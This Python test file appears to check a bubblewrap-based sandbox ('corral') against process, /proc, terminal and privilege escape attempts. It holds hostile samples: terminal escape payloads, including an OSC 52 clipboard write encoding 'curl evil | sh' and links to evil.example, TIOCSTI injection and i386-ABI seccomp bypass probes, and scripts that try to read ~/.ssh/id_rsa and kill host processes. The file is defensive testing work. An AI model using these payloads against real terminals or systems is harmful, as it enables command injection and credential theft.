"""Attack catalog group 4: /proc, processes, terminal, privileges. Real bubblewrap, as root and as a
normal user; host state (processes, markers, the terminal's input) is checked from outside.

The principle: the sandbox is its own pid namespace with no capabilities, no new privileges and a
seccomp filter that holds for every ABI; nothing it starts outlives the command; it never holds the
user's terminal, and what it prints reaches a terminal only through `TerminalFilter`.

P01 (command-name rules as advisory) belongs to the escalation issue; P06 is not in the catalog.
"""

from __future__ import annotations

import os
import pty
import secrets
import select
import subprocess
import time
from pathlib import Path

import pytest

from boundary.termsafe import TerminalFilter
from boundary.termsafe import visible_output as neutralise
from tests.conftest import CORRAL, SECRET, Actor
from tests.test_escape_support import plant

ESC = "\x1b"
HOSTILE = {
    "cursor-position query": "\x1b[6n",
    "device attributes query": "\x1b[c",
    "OSC 52 clipboard write": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "OSC 52 clipboard query": "\x1b]52;c;?\x1b\\",
    "DCS request status string": "\x1bP$q m\x1b\\",
    "OSC 7 working directory": "\x1b]7;file://evil.example/home\x07",
    "OSC 8 hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "title report": "\x1b[21t",
    "C1 CSI": "\x9b6n",
    "C1 OSC": "\x9d52;c;?\x9c",
}


def host_processes_with(marker: str) -> list[int]:
    """Host pids whose command line contains `marker` (the test's own view of /proc is the host's)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(int(entry))
    return found


def test_P02_host_processes_invisible(actor: Actor) -> None:
    """Only the sandbox's own pids are visible; corral's environment and memory cannot be read."""
    env_marker = f"HOSTONLY{secrets.token_hex(6)}"
    actor.env["CORRAL_TEST_HOST_MARKER"] = env_marker
    arg_marker = f"{secrets.token_hex(3)}.{secrets.token_hex(3)}".replace("a", "1")
    host_sleeper = subprocess.Popen(["sleep", f"{int(arg_marker.split('.')[0], 16) + 100}.5"])
    try:
        script = f"""
            ps -eo pid=,args= | wc -l
            ps -eo pid=
            cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c {env_marker[:8]}
            kill -0 {host_sleeper.pid} 2>&1 || echo no-such-host-pid
            ls -l /proc/[0-9]*/cwd 2>/dev/null | grep -c {actor.base}/home || true
            head -c 16 /proc/1/mem >/dev/null 2>&1 && echo read-pid1-mem || echo pid1-mem-refused
            echo end
        """
        result = actor.sandboxed(script)
    finally:
        host_sleeper.kill()
        host_sleeper.wait()
    lines = result.stdout.split()
    assert lines[-1] == "end", result.stderr
    assert int(lines[0]) <= 6  # bwrap's init, the shell, ps, wc (and a subshell)
    pids = [int(p) for p in result.stdout.splitlines()[1 : 1 + int(lines[0])]]
    assert all(p < 20 for p in pids), pids
    assert env_marker not in result.stdout
    assert "pid1-mem-refused" in result.stdout
    assert SECRET not in result.stdout + result.stderr


@pytest.mark.bwrap_only(
    "under gVisor pid 1 is the command itself, in gVisor's own /proc (no host view either)"
)
def test_P02_proc_has_no_host_view(actor: Actor) -> None:
    """/proc is the sandbox's own: no host mounts table with the credential paths' sources, no host
    pid 1, and sysrq / kernel knobs are read-only."""
    result = actor.sandboxed(
        "cat /proc/1/cmdline | tr '\\0' ' ' | head -c 200; echo; "
        "echo b > /proc/sysrq-trigger 2>&1 || echo sysrq-refused; "
        "echo 1 > /proc/sys/kernel/ns_last_pid 2>&1 || echo sysctl-refused; echo end"
    )
    assert "end" in result.stdout
    assert "bwrap" in result.stdout  # pid 1 is the sandbox's own init, not the host's
    assert "sysrq-refused" in result.stdout and "sysctl-refused" in result.stdout


def test_P03_only_stdio_descriptors(actor: Actor) -> None:
    """The command inherits exactly stdin, stdout and stderr: no corral pipe, lock, seccomp or status fd,
    no directory fd that `openat(fd, "..")` could climb out of."""
    script = (
        "python3 -c 'import os\n"
        'fds = sorted(int(f) for f in os.listdir("/proc/self/fd"))\n'
        'print("fds", [f for f in fds if os.path.exists(f"/proc/self/fd/{f}") and f != fds[-1]])\'\n'
        "ls -l /proc/1/fd | tail -n +2 | wc -l"
    )
    result = actor.sandboxed(script)
    assert result.returncode == 0, result.stderr
    assert "fds [0, 1, 2]" in result.stdout
    assert int(result.stdout.split()[-1]) <= 5  # bwrap's init: stdio and one eventfd


# Not against gVisor: under gVisor the command is its sandbox's pid 1: `kill -STOP 1` stops the command itself; ptrace there is gVisor's own.
@pytest.mark.backends("bwrap", "landlock")
def test_P04_cannot_signal_or_trace_outside(actor: Actor) -> None:
    """Signals and ptrace cannot reach the host: a host process of the same user survives, and the
    sandbox's init ignores the signals sent to it."""
    host_victim = subprocess.Popen(
        ["setpriv", f"--reuid={actor.uid}", f"--regid={actor.gid}", "--clear-groups", "sleep", "60"]
        if actor.uid != os.geteuid()
        else ["sleep", "60"]
    )
    try:
        script = f"""
            kill -STOP $PPID; kill -9 1; kill -STOP 1
            kill -9 {host_victim.pid} 2>&1 || echo kill-refused
            kill -9 {os.getpid()} 2>&1 || echo kill-refused
            pkill -9 -f 'pyt[e]st'; pkill -9 sleep; pkill -9 -f 'corra[l]'
            strace -p 1 -o /dev/null 2>&1 | head -1
            gdb -p 1 -batch -ex 'info proc' 2>&1 | grep -ci 'ptrace' || true
            python3 -c 'import ctypes; l = ctypes.CDLL(None, use_errno=True); print("ptrace", l.ptrace(16, 1, 0, 0), ctypes.get_errno())'
            echo alive
        """
        result = actor.sandboxed(script)
        time.sleep(0.1)
        assert host_victim.poll() is None, "a host process was killed from inside the sandbox"
    finally:
        host_victim.kill()
        host_victim.wait()
    assert "alive" in result.stdout
    assert "ptrace -1 1" in result.stdout  # PTRACE_ATTACH refused with EPERM by seccomp


@pytest.mark.parametrize(
    "launch",
    [
        "(sleep {t} &)",
        "setsid nohup sleep {t} >/dev/null 2>&1 &",
        "setsid -f sleep {t}",
        "nohup sleep {t} & disown",
        "sh -c 'trap \"\" HUP TERM INT; exec sleep {t}' &",
        'python3 -c \'import os,time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\nos.execvp("sleep", ["sleep", "{t}"])\'',
        "sleep {t} &",  # keeps the command's stdout open: corral must still return
    ],
    ids=[
        "subshell",
        "setsid-nohup",
        "setsid-fork",
        "disown",
        "ignores-signals",
        "double-fork",
        "holds-stdout",
    ],
)
@pytest.mark.backends("bwrap", "gvisor", "landlock", slow=("landlock",))
def test_P05_no_process_outlives_the_command(actor: Actor, launch: str) -> None:
    seconds = f"{900 + secrets.randbelow(90000)}.{secrets.randbelow(10**6):06d}"  # a unique argv marker
    started = time.monotonic()
    result = actor.sandboxed(launch.format(t=seconds) + "\nsleep 0.2; echo launched")
    assert "launched" in result.stdout, result.stderr
    assert time.monotonic() - started < 30
    deadline = time.monotonic() + 3
    while host_processes_with(seconds) and time.monotonic() < deadline:
        time.sleep(0.05)
    survivors = host_processes_with(seconds)
    for pid in survivors:
        os.kill(pid, 9)
    assert survivors == [], f"sandboxed processes outlived the command: {survivors}"


# --- P07: terminal escape sequences ------------------------------------------------------------------


@pytest.mark.parametrize("name", list(HOSTILE))
def test_P07_neutralise_encodes_hostile_sequences(name: str) -> None:
    """Pure function, no sandbox: runs once."""
    out = neutralise(f"before {HOSTILE[name]} after")
    assert ESC not in out and "\x07" not in out
    assert not any(0x80 <= ord(c) <= 0x9F for c in out)
    assert out.startswith("before ") and out.endswith(" after")


def test_P07_colours_pass() -> None:
    text = "\x1b[31mred\x1b[0m \x1b[1;38;5;208mbold orange\x1b[m\ttab\nnext"
    assert neutralise(text) == text


def _strip_sgr(data: bytes) -> bytes:
    import re

    return re.sub(rb"\x1b\[[0-9;:]{0,64}m", b"", data)


def test_P07_filter_chunk_boundaries_never_leak_escape() -> None:
    """Every split of a hostile stream into two chunks, and byte-by-byte: no raw ESC/BEL/C1 byte
    leaves the filter except inside an intact SGR colour sequence."""
    stream = ("\x1b[32mok\x1b[0m " + " ".join(HOSTILE.values()) + " caf\u00e9 \x1b[1m").encode()
    splits: list[list[bytes]] = [[stream[:i], stream[i:]] for i in range(len(stream) + 1)]
    splits.append([stream[i : i + 1] for i in range(len(stream))])
    for chunks in splits:
        flt = TerminalFilter()
        out = b"".join(flt.feed(c) for c in chunks) + flt.flush()
        rest = _strip_sgr(out)
        assert b"\x1b" not in rest and b"\x07" not in rest, chunks
        assert not any(b in rest for b in (b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x9c"))
        assert b"\x1b[32mok\x1b[0m" in out and "caf\u00e9".encode() in out


def test_P07_unfinished_sequence_at_end_is_encoded() -> None:
    flt = TerminalFilter()
    out = flt.feed(b"text \x1b[1") + flt.flush()
    assert b"\x1b" not in out and out.endswith(b"^[[1")


def _run_on_pty(actor: Actor, script: str, timeout: float = 30) -> tuple[int, bytes]:
    """Run `corral run -c SCRIPT` with stdin, stdout and stderr on a fresh pseudo-terminal, as the
    user's terminal would be. Returns corral's status and everything the terminal received."""
    master, slave = pty.openpty()
    if actor.uid != os.geteuid():
        os.fchown(slave, actor.uid, actor.gid)
    command = [CORRAL, "run", "--on-violation", "deny", "-c", script]
    if actor.uid != os.geteuid():
        command = ["setpriv", f"--reuid={actor.uid}", f"--regid={actor.gid}", "--init-groups", "--", *command]
    process = subprocess.Popen(
        command,
        cwd=actor.workspace,
        env=actor.env,
        stdin=slave,
        stdout=slave,
        stderr=slave,
        start_new_session=True,
    )
    os.close(slave)
    received = b""
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                received += chunk
            elif process.poll() is not None:
                break
        status = process.wait(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    return status, received


def test_P07_terminal_output_is_filtered_and_stdin_is_not_the_terminal(actor: Actor) -> None:
    """With corral on a real terminal: hostile sequences arrive caret-encoded, colours arrive intact, and
    the command's stdio are pipes, not the terminal (so it cannot query or inject into it)."""
    script = (
        "printf 'A\\033[6nB\\033]52;c;?\\007C\\033P$q m\\033\\\\D\\033[31mred\\033[0m\\n'; "
        "printf 'E\\033]8;;http://evil.example\\033\\\\F\\n' >&2; "
        "for fd in 0 1 2; do [ -t $fd ] && echo tty$fd; readlink /proc/self/fd/$fd; done; "
        "tty; (exec 3<>/dev/tty) 2>/dev/null && echo has-dev-tty || echo no-dev-tty"
    )
    status, received = _run_on_pty(actor, script)
    assert status == 0, received
    assert b"\x1b[31mred\x1b[0m" in received
    rest = _strip_sgr(received)
    assert b"\x1b" not in rest, received
    assert b"^[[6n" in received and b"^[]52;c;?^G" in received and b"^[]8;;http://evil.example" in received
    for fd in (b"tty0", b"tty1", b"tty2"):
        assert fd not in received
    assert b"/dev/pts" not in received
    assert b"not a tty" in received and b"no-dev-tty" in received


TIOCSTI_PROBE = """\
import fcntl, os, termios
master, slave = os.openpty()
pid = os.fork()
if pid == 0:
    os.setsid()
    try:
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
        fcntl.ioctl(slave, termios.TIOCSTI, b"x")
        os._exit(0)
    except OSError as error:
        os._exit(error.errno)
_, status = os.waitpid(pid, 0)
print("own-pty", os.waitstatus_to_exitcode(status))
for fd in (0, 1, 2):
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
        print("fd", fd, "injected")
    except OSError as error:
        print("fd", fd, error.errno)
"""


# Not against gVisor: under gVisor TIOCSTI fails with ENOTTY from gVisor's terminal layer, not EPERM from bwrap's filter.
@pytest.mark.backends("bwrap", "landlock")
def test_TIOCSTI_refused(actor: Actor) -> None:
    """TIOCSTI is refused by seccomp (EPERM), even on a terminal the sandbox owns and controls, and on
    the stdio it was given (a pipe would say ENOTTY: EPERM shows the filter answered first). On the
    host the same probe succeeds on its own terminal when the kernel allows legacy TIOCSTI."""
    plant(actor, actor.workspace / "tiocsti_probe.py", TIOCSTI_PROBE)
    host = subprocess.run(
        ["python3", "tiocsti_probe.py"],
        cwd=actor.workspace,
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
    )
    result = actor.sandboxed("python3 tiocsti_probe.py")
    assert result.returncode == 0, result.stderr
    assert "own-pty 1" in result.stdout  # EPERM
    for fd in (0, 1, 2):
        assert f"fd {fd} 1" in result.stdout
    # Control: on the host the probe injects into its own terminal unless the kernel forbids legacy
    # TIOCSTI (dev.tty.legacy_tiocsti=0), in which case it fails there with EIO.
    assert "own-pty 0" in host.stdout or "own-pty 5" in host.stdout, host.stdout + host.stderr


@pytest.mark.backends("bwrap", "gvisor", "landlock")
def test_TIOCSTI_on_real_terminal(actor: Actor) -> None:
    """End to end on a pty: an injection attempt types nothing into the terminal's input."""
    script = (
        "python3 -c 'import fcntl,termios,sys\n"
        "for fd in (0,1,2):\n"
        '    try: fcntl.ioctl(fd, termios.TIOCSTI, b"X"); print("INJECTED", fd)\n'
        '    except OSError as e: print("refused", fd, e.errno)\''
    )
    status, received = _run_on_pty(actor, script)
    assert status == 0, received
    assert b"INJECTED" not in received
    assert received.count(b"refused") == 3


# --- P08: privileges ---------------------------------------------------------------------------------

ABI_PROBE = """\
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def call(number, *args):
    result = libc.syscall(number, *args)
    return result if result >= 0 else -ctypes.get_errno()

def run_code(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()

AF_UNIX, SOCK_STREAM = 1, 1
print("native", call(41, AF_UNIX, SOCK_STREAM, 0))
print("x32", call(0x40000000 | 41, AF_UNIX, SOCK_STREAM, 0))
# i386 ABI through int 0x80: socket (359) directly, then socketcall(SYS_SOCKET) with its argument
# block in a page below 4 GiB (MAP_32BIT).
print("i386-socket", run_code(bytes.fromhex("53b867010000bb01000000b90100000031d2cd805bc3")))
block = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)
address = ctypes.addressof(ctypes.c_char.from_buffer(block))
ctypes.memmove(address, (ctypes.c_uint32 * 3)(AF_UNIX, SOCK_STREAM, 0), 12)
code = bytes.fromhex("53b866000000bb01000000b9") + address.to_bytes(4, "little") + bytes.fromhex("cd805bc3")
print("i386-socketcall", run_code(code))
"""


def _probe_values(output: str) -> dict[str, int]:
    return {name: int(value) for name, value in (line.split() for line in output.splitlines() if line)}


# Not against gVisor: under gVisor other ABIs are ENOSYS (gVisor runs no 32-bit code) and AF_UNIX is gVisor's own, reaching no host socket.
@pytest.mark.backends("bwrap", "landlock")
def test_P08_seccomp_holds_on_every_abi(actor: Actor) -> None:
    """AF_UNIX socket() through the native syscall, x32 numbers, and the i386 ABI (`int 0x80`, both
    `socket` and `socketcall`) all fail with EPERM. No 32-bit toolchain is needed: the probe runs
    machine code from Python. The same probe on the host is the control."""
    import platform

    if platform.machine() != "x86_64":
        pytest.skip("the ABI probe is x86-64 machine code")
    plant(actor, actor.workspace / "abi_probe.py", ABI_PROBE)
    host = subprocess.run(["python3", "abi_probe.py"], cwd=actor.workspace, capture_output=True, text=True)
    result = actor.sandboxed("python3 abi_probe.py")
    assert result.returncode == 0, result.stderr
    inside = _probe_values(result.stdout)
    assert set(inside) == {"native", "x32", "i386-socket", "i386-socketcall"}
    assert all(value == -1 for value in inside.values()), inside  # -1 is -EPERM: the filter answered
    # Control: unsandboxed, the same calls create sockets (x32 may be absent from the kernel: -ENOSYS).
    outside = _probe_values(host.stdout) if host.returncode == 0 else {}
    assert outside.get("native", -1) >= 0, host.stdout + host.stderr


@pytest.mark.bwrap_only(
    "under gVisor the command is root of gVisor's own kernel (its capabilities are gVisor's, not the host's)"
)
def test_P08_no_privileges(actor: Actor) -> None:
    """No new privileges, no capabilities even for root, no nested user namespaces, setuid ineffective,
    no mounts: `unshare -Urm` cannot unmount the credential decoys."""
    marker = actor.outside / "P08"
    script = f"""
        grep -E '^(NoNewPrivs|CapInh|CapPrm|CapEff|CapBnd|CapAmb|Seccomp):' /proc/self/status
        unshare -Ur true 2>/dev/null && echo nested-userns-ok || echo nested-userns-refused
        unshare -Urm sh -c 'umount ~/.ssh; cat ~/.ssh/id_rsa' 2>/dev/null || echo unshare-mount-refused
        umount ~/.ssh 2>/dev/null || umount -l ~/.ssh 2>/dev/null || echo umount-refused
        mount -t tmpfs none ~/.aws 2>/dev/null || echo mount-refused
        su nobody -s /bin/sh -c 'touch {marker}' </dev/null 2>/dev/null || echo su-refused
        su root -c 'touch {marker}' </dev/null 2>/dev/null || echo su-root-refused
        python3 -c 'import os; os.setuid(12345)' 2>/dev/null && echo setuid-ok || echo setuid-refused
        cat ~/.ssh/id_rsa
        echo end
    """
    result = actor.sandboxed(script)
    out = result.stdout
    assert "end" in out, result.stderr
    assert "NoNewPrivs:\t1" in out
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert f"{cap}:\t0000000000000000" in out, cap
    assert "Seccomp:\t2" in out
    for refused in (
        "nested-userns-refused",
        "unshare-mount-refused",
        "umount-refused",
        "mount-refused",
        "su-refused",
        "su-root-refused",
        "setuid-refused",
    ):
        assert refused in out, refused
    assert not marker.exists()
    assert SECRET not in out + result.stderr
